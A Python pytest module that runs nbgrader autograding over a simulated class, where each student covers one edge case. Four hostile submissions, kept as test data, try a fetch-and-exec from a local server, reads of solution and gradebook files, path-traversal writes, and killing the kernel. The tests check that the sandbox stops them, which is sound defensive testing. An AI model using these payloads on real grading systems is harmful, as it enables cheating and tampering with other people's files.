"""The awkward submissions of a real class, graded through the real nbgrader command line.

One lesson (01_pixels_and_labels, else the first lesson) is graded for a class in which
every student stands for a case of the issue: perfect, partial, crash, endless,
tampered, broken file, extra files, renamed notebook, late (collected from a zip of
downloads), and four hostile ones. The class is graded once (module fixture); each test
checks one case in the exported scores, the logs and the files. Then feedback,
idempotence, the parallel grader and an interrupted run.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
import zipfile
from dataclasses import dataclass
from html import unescape
from pathlib import Path

import nbformat
import pytest

from fmnist_utils.tooling.lessons import HIDDEN_MARKERS, run_nbgrader

from .conftest import LESSONS, ROOT
from .grading_helpers import (
    Submissions,
    dump,
    export,
    grading_env_or_skip,
    integrity_ok,
    make_course,
    processes_working_in,
)

pytestmark = pytest.mark.slow

LESSON = next((x for x in LESSONS if x.lesson_id == "01_pixels_and_labels"), LESSONS[0])
L = LESSON.lesson_id
TIMEOUT = 40  # seconds per cell for this class (the endless loop costs this much)
DUE = "2024-06-01 12:00:00 UTC"


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []
    body = b""

    def do_GET(self) -> None:  # http.server's name
        type(self).requests.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(type(self).body)

    def log_message(self, *args) -> None:
        pass


@dataclass
class Graded:
    root: Path
    db: str
    subs: Submissions
    run: subprocess.CompletedProcess
    collect: subprocess.CompletedProcess
    scores: dict
    sentinels: dict[Path, str | None]
    server: type[_Recorder]
    log: str


def _digest(path: Path) -> str | None:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Graded:
    with pytest.MonkeyPatch.context() as patch:
        grading_env_or_skip(patch, trusted=False)
        yield _grade_class(tmp_path_factory.mktemp("class"))


def _grade_class(tmp: Path) -> Graded:
    root, db = make_course(tmp / "course", [LESSON])
    subs = Submissions(root, L)
    last = subs.exercises[-1]
    first = subs.exercises[0]
    good = subs.solution(last.answer_id)

    # a server a student may try to fetch the answer from
    _Recorder.requests = []
    _Recorder.body = good.encode()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/answer.py"

    secret_paths = [
        root / "solutions" / L / f"{L}.py",
        root / "solutions" / L / f"{L}.ipynb",
        root / "instructor" / "gradebook.db",
        ROOT / "solutions" / L / f"{L}.py",
        Path("../../../../solutions") / L / f"{L}.py",
    ]
    outside = ROOT / "PWNED-by-a-grading-test.txt"
    targets = [
        root / "solutions" / L / f"{L}.py",
        root / "instructor" / "submitted" / "a_perfect" / L / f"{L}.ipynb",
        root / "PWNED.txt",
        outside,
        Path(sys.prefix) / "PWNED.txt",
        Path("../../a_perfect") / L / "PWNED.txt",
    ]
    hostile_write = good + textwrap_block(
        f"""
        for _p in {[str(t) for t in targets]!r}:
            try:
                with open(_p, "a") as _f:
                    _f.write("pwned")
                print("wrote (in the sandbox only?):", _p)
            except OSError as _e:
                print("write blocked:", _p, type(_e).__name__)
        """
    )
    hostile_read = (
        textwrap_block(
            f"""
        _leaked = []
        for _p in {[str(p) for p in secret_paths]!r}:
            try:
                _leaked.append(open(_p, "rb").read(100))
            except OSError as _e:
                print("read blocked:", _p, type(_e).__name__)
        if not _leaked:
            raise PermissionError("nothing to copy the answer from")
        """
        )
        + good
    )
    hostile_net = textwrap_block(
        f"""
        import urllib.request
        exec(urllib.request.urlopen({url!r}, timeout=10).read().decode())
        """
    )

    answers = {
        "b_partial": {last.answer_id: subs.wrong(last.answer_id)},
        "c_crash": {last.answer_id: "raise RuntimeError('my code crashes')\n" + good},
        "d_endless": {last.answer_id: "while True:\n    pass\n" + good},
        "i_exit": {last.answer_id: "import os\nos._exit(1)\n" + good},
        "j_write": {last.answer_id: hostile_write},
        "k_read": {last.answer_id: hostile_read},
        "l_net": {last.answer_id: hostile_net},
    }
    subs.submit("a_perfect", subs.notebook())
    for student, replaced in answers.items():
        subs.submit(student, subs.notebook(replaced))
    # tampered: the last test cell emptied, the first one deleted, the last answer wrong
    tampered = subs.notebook({last.answer_id: subs.wrong(last.answer_id), last.test_id: "pass"})
    tampered.cells = [
        c for c in tampered.cells if c.metadata.get("nbgrader", {}).get("grade_id") != first.test_id
    ]
    subs.submit("e_tampered", tampered)
    broken = subs.folder("f_broken") / f"{L}.ipynb"
    broken.parent.mkdir(parents=True)
    broken.write_text(nbformat.writes(subs.notebook())[:500])  # cut short: not JSON
    extra = subs.submit("g_extra", subs.notebook())
    (extra.parent / "my_notes.txt").write_text("notes\n")
    (extra.parent / "data").mkdir()
    (extra.parent / "data" / "mine.csv").write_text("1,2\n")
    nbformat.write(subs.notebook(), extra.parent / "scratch.ipynb")

    # downloads in a zip: a late one, a renamed one, a stray file
    archive = root / "instructor" / "downloaded" / L / "archive"
    archive.mkdir(parents=True)
    with zipfile.ZipFile(archive / "downloads.zip", "w") as zf:
        text = nbformat.writes(subs.notebook())
        zf.writestr(f"submissions/n_late--2024-06-02T093015--{L}.ipynb", text)
        zf.writestr(f"submissions/h_renamed--{L}-Copy1.ipynb", text)
        zf.writestr("submissions/readme.txt", "from the learning platform\n")
    collect = run_nbgrader(["zip_collect", L], root, db)
    assert collect.returncode == 0, collect.stdout + collect.stderr
    done = run_nbgrader(["db", "assignment", "add", L, f"--duedate={DUE}"], root, db)
    assert done.returncode == 0, done.stdout + done.stderr

    sentinels = {p: _digest(p) for p in targets if not str(p).startswith("..")}
    run = run_nbgrader(["autograde", L, f"--Execute.timeout={TIMEOUT}"], root, db)
    server.shutdown()
    log = run.stdout + run.stderr
    (tmp / "autograde.log").write_text(log)
    return Graded(root, db, subs, run, collect, export(root, db), sentinels, _Recorder, log)


def textwrap_block(text: str) -> str:
    import textwrap

    return textwrap.dedent(text).lstrip("\n") + "\n"


def _score(g: Graded, student: str) -> float:
    return float(g.scores[(L, student)]["score"])


def _outputs(g: Graded, student: str, grade_id: str) -> list[dict]:
    path = g.root / "instructor" / "autograded" / student / L / f"{L}.ipynb"
    nb = json.loads(path.read_text())
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
            return cell.get("outputs", [])
    raise KeyError(grade_id)


# --- the run as a whole ------------------------------------------------------------------


def test_run_reports_only_the_unreadable_submissions(graded: Graded) -> None:
    failed = sorted(set(re.findall(r"for student '([^']+)'", graded.log)))
    assert failed == ["h_renamed"], graded.log[-3000:]  # f_broken: refused at intake
    assert graded.run.returncode == 1, "nbgrader exits 1 when a submission could not be graded"
    assert integrity_ok(graded.db)


def test_perfect_gets_full_marks(graded: Graded) -> None:
    assert graded.subs.total >= 3
    assert _score(graded, "a_perfect") == graded.subs.total
    assert float(graded.scores[(L, "a_perfect")]["max_score"]) == graded.subs.total


def test_partial_loses_exactly_one_exercise(graded: Graded) -> None:
    last = graded.subs.exercises[-1]
    assert _score(graded, "b_partial") == graded.subs.total - last.points


def test_crash_scores_zero_for_its_tests_only(graded: Graded) -> None:
    last = graded.subs.exercises[-1]
    assert _score(graded, "c_crash") == graded.subs.total - last.points
    errors = [o for o in _outputs(graded, "c_crash", last.answer_id) if o["output_type"] == "error"]
    assert errors and errors[0]["ename"] == "RuntimeError"


def test_endless_loop_is_stopped_and_the_next_student_graded(graded: Graded) -> None:
    last = graded.subs.exercises[-1]
    assert _score(graded, "d_endless") == graded.subs.total - last.points
    names = [o.get("ename") for o in _outputs(graded, "d_endless", last.answer_id)]
    assert "KeyboardInterrupt" in names or "CellTimeoutError" in names, names
    # e_tampered is graded right after it, in the same run, with its exact score
    assert _score(graded, "e_tampered") == graded.subs.total - last.points


def test_tampered_tests_are_restored_and_a_deleted_one_put_back(graded: Graded) -> None:
    last, first = graded.subs.exercises[-1], graded.subs.exercises[0]
    # the emptied test cell runs the real tests again (the wrong answer fails them), and
    # the deleted one is put back by nbgrader (OverwriteCells.add_missing_cells) and passes
    assert _score(graded, "e_tampered") == graded.subs.total - last.points
    assert f"Missing grade cell {first.test_id} encountered, adding to notebook" in graded.log
    restored = _outputs(graded, "e_tampered", first.test_id)
    assert not [o for o in restored if o["output_type"] == "error"]


def test_broken_file_is_reported_and_scores_zero(graded: Graded) -> None:
    """Refused before nbgrader parses it: named with the cause, graded 0, flagged."""
    from nbgrader.api import Gradebook

    assert f"REJECTED f_broken/{L}: {L}.ipynb is not a notebook file (not JSON" in graded.log
    assert _score(graded, "f_broken") == 0
    with Gradebook(graded.db) as gb:
        assert gb.find_submission_notebook(L, L, "f_broken").flagged


def test_extra_files_are_kept_and_extra_notebooks_skipped(graded: Graded) -> None:
    assert _score(graded, "g_extra") == graded.subs.total
    folder = graded.root / "instructor" / "autograded" / "g_extra" / L
    assert (folder / "my_notes.txt").is_file() and (folder / "data" / "mine.csv").is_file()
    assert "Skipping unknown notebook" in graded.log and "scratch.ipynb" in graded.log


def test_renamed_notebook_is_named_and_scores_zero(graded: Graded) -> None:
    assert f"Invalid submission notebook name '{L}-Copy1.ipynb'" in (
        graded.collect.stdout + graded.collect.stderr
    )
    assert f"h_renamed handed in {L}-Copy1.ipynb, not {L}.ipynb" in graded.log
    # nbgrader names the private intake copy it grades, not instructor/submitted
    assert re.search(rf"Skipping unknown notebook: \S*/h_renamed/{L}/{L}-Copy1", graded.log)
    assert _score(graded, "h_renamed") == 0


def test_late_submission_from_the_zip_is_flagged_without_penalty(graded: Graded) -> None:
    row = graded.scores[(L, "n_late")]
    assert row["timestamp"].startswith("2024-06-02 09:30:15"), row
    assert row["duedate"].startswith("2024-06-01 12:00:00"), row
    assert float(row["late_submission_penalty"]) == 0
    assert float(row["score"]) == graded.subs.total
    assert "n_late" in graded.log and "seconds late" in graded.log
    assert graded.scores[(L, "a_perfect")]["timestamp"] in ("", "None")


def test_killing_the_kernel_scores_the_skipped_tests_zero(graded: Graded) -> None:
    last = graded.subs.exercises[-1]
    assert _score(graded, "i_exit") == graded.subs.total - last.points
    names = [o.get("ename") for o in _outputs(graded, "i_exit", last.test_id)]
    assert names == ["NotExecuted"], names
    assert _score(graded, "j_write") == graded.subs.total, "the next student is graded as usual"


def test_writing_outside_changes_nothing(graded: Graded) -> None:
    for path, before in graded.sentinels.items():
        assert _digest(path) == before, f"{path} was changed by a student"
    assert not (ROOT / "PWNED-by-a-grading-test.txt").exists()
    assert not list((graded.root / "instructor" / "autograded" / "a_perfect").rglob("PWNED*"))
    assert _score(graded, "j_write") == graded.subs.total


def test_reading_solutions_fails(graded: Graded) -> None:
    last = graded.subs.exercises[-1]
    assert _score(graded, "k_read") == graded.subs.total - last.points
    text = json.dumps(_outputs(graded, "k_read", last.answer_id))
    assert "nothing to copy the answer from" in text


def test_network_is_unreachable(graded: Graded) -> None:
    last = graded.subs.exercises[-1]
    assert _score(graded, "l_net") == graded.subs.total - last.points
    assert graded.server.requests == [], "a grading kernel reached the network"


def test_others_untouched_by_the_hostile_ones(graded: Graded) -> None:
    for student in ("a_perfect", "g_extra", "n_late"):
        assert _score(graded, student) == graded.subs.total


# --- after grading -----------------------------------------------------------------------


def _hidden_lines(g: Graded) -> list[str]:
    begin, end = (re.escape(m) for m in HIDDEN_MARKERS)
    lines = []
    for cell in g.subs.source.cells:
        for region in re.findall(rf"{begin}\n(.*?)\n[ \t]*{end}", cell.source, re.DOTALL):
            lines += [ln.strip() for ln in region.splitlines() if len(ln.strip()) > 12]
    # a hidden check may repeat a line the learner sees in another cell: that one is public
    visible = {ln.strip() for cell in g.subs.release.cells for ln in cell.source.splitlines()}
    return [ln for ln in lines if not ln.startswith("#") and ln not in visible]


def test_feedback_has_no_hidden_tests(graded: Graded) -> None:
    done = run_nbgrader(["generate_feedback", L, "--student", "b_partial"], graded.root, graded.db)
    assert done.returncode == 0, done.stdout + done.stderr
    html = graded.root / "instructor" / "feedback" / "b_partial" / L / f"{L}.html"
    text = unescape(re.sub(r"<[^>]+>", "", html.read_text()))
    hidden = _hidden_lines(graded)
    assert hidden, "the lesson should have hidden tests"
    leaked = [line for line in hidden if line in text]
    assert not leaked, f"the feedback shows hidden test lines: {leaked}"
    total = f"{float(graded.scores[(L, 'b_partial')]['score'])} / {graded.subs.total}"
    assert f"Score: {total}" in text, "the feedback shows the learner's score"


def test_autograde_again_changes_nothing(graded: Graded) -> None:
    before = dump(graded.db)
    again = run_nbgrader(["autograde", L], graded.root, graded.db)
    assert "Skipping existing assignment" in again.stdout + again.stderr
    assert dump(graded.db) == before
    one = run_nbgrader(["autograde", L, "--student", "c_crash", "--force"], graded.root, graded.db)
    assert one.returncode == 0, one.stdout + one.stderr
    assert dump(graded.db) == before


def test_parallel_grading_equals_sequential(graded: Graded, tmp_path: Path) -> None:
    students = ["a_perfect", "c_crash", "f_broken", "h_renamed", "i_exit", "n_late"]
    root, db = make_course(tmp_path / "course", [LESSON])
    for student in students:
        shutil.copytree(
            graded.root / "instructor" / "submitted" / student,
            root / "instructor" / "submitted" / student,
        )
    # with their receipts (n_late's learning-system time, from zip_collect)
    shutil.copy2(graded.root / "instructor" / "receipts.json", root / "instructor")
    done = run_nbgrader(["db", "assignment", "add", L, f"--duedate={DUE}"], root, db)
    assert done.returncode == 0
    env = dict(os.environ, FMNIST_GRADEBOOK_URL=db)
    run = subprocess.run(
        [sys.executable, "-m", "fmnist_utils.grading.parallel", L, "--workers", "2",
         f"--Execute.timeout={TIMEOUT}"],
        cwd=root, env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert run.returncode == 1, run.stdout + run.stderr  # h_renamed fails, as in nbgrader
    assert "NOT GRADED h_renamed" in run.stdout and "f_broken" in run.stdout
    # nbgrader's last words in the failed job's log reach the instructor (the job's
    # process is forked, and its log must still be complete)
    assert "nbgrader exited with 1" in run.stdout, run.stdout
    assert "| ERROR]" in run.stdout, run.stdout
    assert dump(db) == dump(graded.db, students)
    for student in ["a_perfect", "i_exit", "n_late"]:
        assert (root / "instructor" / "autograded" / student / L / f"{L}.ipynb").is_file()


def test_parallel_grader_grades_several_lessons_like_nbgrader(tmp_path: Path) -> None:
    """One command grades two lessons for a class, as one nbgrader run per lesson would."""
    lessons = ("01_tiny", "02_tiny")
    with pytest.MonkeyPatch.context() as patch:
        grading_env_or_skip(patch, trusted=False)
        courses = {}
        for name in ("sequential", "parallel"):
            root, db = make_course(tmp_path / name, [], tiny=lessons)
            for lesson in lessons:
                subs = Submissions(root, lesson)
                subs.submit("right", subs.notebook())
                subs.submit("wrong", subs.notebook({"triple": subs.wrong("triple")}))
            courses[name] = (root, db)
        root, db = courses["sequential"]
        for lesson in lessons:
            done = run_nbgrader(["autograde", lesson], root, db)
            assert done.returncode == 0, done.stdout + done.stderr
        # plain nbgrader runs record each lesson's duration too (the course's hook)
        recorded = json.loads(
            (root / "instructor" / "parallel-logs" / "durations.json").read_text()
        )
        assert sorted(recorded) == list(lessons)
        root, db = courses["parallel"]
        env = dict(os.environ, FMNIST_GRADEBOOK_URL=db)
        run = subprocess.run(
            [sys.executable, "-m", "fmnist_utils.grading.parallel", *lessons, "--workers", "2"],
            cwd=root, env=env, capture_output=True, text=True, check=False,
        )  # fmt: skip
        assert run.returncode == 0, run.stdout + run.stderr
        assert "4 submission(s) graded, 0 not graded, by 2 worker(s)" in run.stdout, run.stdout
        rows = dump(db)
        assert rows == dump(courses["sequential"][1])
        scores = {(r[0], r[1]): r for r in rows if r[3] == "grade triple_tests"}
        assert [scores[("right", x)][4] for x in lessons] == [2.0, 2.0]
        assert [scores[("wrong", x)][4] for x in lessons] == [0.0, 0.0]
        for lesson in lessons:
            for student in ("right", "wrong"):
                graded = root / "instructor" / "autograded" / student / lesson / f"{lesson}.ipynb"
                assert graded.is_file(), graded
        # the next run starts the lesson that took longest first
        durations = json.loads(
            (root / "instructor" / "parallel-logs" / "durations.json").read_text()
        )
        assert sorted(durations) == list(lessons)
        assert all(seconds > 0 for seconds in durations.values())


def test_interrupted_run_is_completed_by_the_next(tmp_path: Path) -> None:
    with pytest.MonkeyPatch.context() as patch:
        grading_env_or_skip(patch, trusted=False)
        root, db = make_course(tmp_path / "course", [], tiny=True)
        subs = Submissions(root, "01_tiny")
        for student in ("s1", "s2", "s3"):
            subs.submit(student, subs.notebook())
        # slow each kernel down, so the run can be killed while it grades s2
        env = dict(os.environ, FMNIST_GRADEBOOK_URL=db)
        env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env['PATH']}"
        first = subprocess.Popen(
            [sys.executable, "-m", "nbgrader", "autograde", "01_tiny"],
            cwd=root, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True,
        )  # fmt: skip
        s2 = root / "instructor" / "autograded" / "s2" / "01_tiny"
        deadline = time.time() + 300
        while not s2.exists() and time.time() < deadline and first.poll() is None:
            time.sleep(0.2)
        os.killpg(first.pid, signal.SIGKILL)
        first.wait()
        assert s2.exists(), "the run should have been killed while grading s2"
        deadline = time.time() + 15
        while processes_working_in(root) and time.time() < deadline:
            time.sleep(0.5)
        assert not processes_working_in(root), "a sandboxed kernel outlived the killed run"
        rerun = run_nbgrader(["autograde", "01_tiny"], root, db)
        assert rerun.returncode == 0, rerun.stdout + rerun.stderr
        assert "left half graded by an interrupted run" in rerun.stderr
        scores = export(root, db)
        assert {s: float(scores[("01_tiny", s)]["score"]) for s in ("s1", "s2", "s3")} == {
            "s1": 3.0,
            "s2": 3.0,
            "s3": 3.0,
        }


def test_stock_nbgrader_leaves_a_deleted_test_out(tmp_path: Path) -> None:
    """What the instructors' guide says nbgrader does without OverwriteCells.add_missing_cells."""
    with pytest.MonkeyPatch.context() as patch:
        grading_env_or_skip(patch, trusted=False)
        root, db = make_course(tmp_path / "course", [], tiny=True)
        subs = Submissions(root, "01_tiny")
        nb = subs.notebook()
        nb.cells = [
            c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "double_tests"
        ]
        subs.submit("deleter", nb)
        done = run_nbgrader(
            ["autograde", "01_tiny", "--OverwriteCells.add_missing_cells=False"], root, db
        )
        assert done.returncode == 0, done.stdout + done.stderr
        grades = {row[3]: row[4:] for row in dump(db) if row[3].startswith("grade ")}
        # (auto_score, manual_score, extra_credit, needs_manual_grade, max_score)
        assert grades["grade double_tests"] == (None, None, None, True, 1.0)
        assert grades["grade triple_tests"] == (2.0, None, None, False, 2.0)
        assert float(export(root, db)[("01_tiny", "deleter")]["score"]) == 2.0
